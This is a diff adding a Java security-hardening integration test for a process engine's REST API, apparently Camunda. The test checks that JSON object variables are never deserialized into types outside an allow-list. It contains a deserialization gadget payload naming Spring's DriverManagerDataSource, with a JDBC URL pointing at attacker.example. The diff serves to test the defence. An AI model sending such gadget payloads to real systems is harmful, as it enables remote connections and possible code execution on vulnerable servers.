@@ -99,6 +99,26 @@ class SecurityHardeningTest extends ServiceIntegrationTest {
     }
 
     @Test
+    void jsonVariablesAreNeverDeserializedIntoTypesOutsideTheAllowList() {
+        String partnerId = Companies.newPartnerId();
+        apply(Companies.application(partnerId, "BRAND"));
+        String instance = runtime.createProcessInstanceQuery().processInstanceBusinessKey(partnerId).singleResult()
+                .getId();
+
+        ResponseEntity<String> stored = engine.post(TestUsers.ADMIN, "/engine-rest/process-instance/" + instance
+                + "/variables", Map.of("modifications", Map.of("gadget", Map.of("type", "Object",
+                "value", "{\"url\":\"jdbc:postgresql://attacker.example/x\"}",
+                "valueInfo", Map.of("objectTypeName", "org.springframework.jdbc.datasource.DriverManagerDataSource",
+                        "serializationDataFormat", "application/json")))));
+
+        assertThat(stored.getStatusCode().value()).as("kept as text, never turned into an object").isEqualTo(204);
+        assertThatThrownBy(() -> runtime.getVariable(instance, "gadget"))
+                .hasMessageContaining("DriverManagerDataSource");
+        assertThat(engine.get(TestUsers.ADMIN, "/engine-rest/process-instance/" + instance
+                + "/variables/gadget?deserializeValue=true").getStatusCode().is2xxSuccessful()).isFalse();
+    }
+
+    @Test
     void webappsKeepTheirCsrfProtection() {
         HttpHeaders headers = new HttpHeaders();
         headers.setContentType(MediaType.APPLICATION_FORM_URLENCODED);
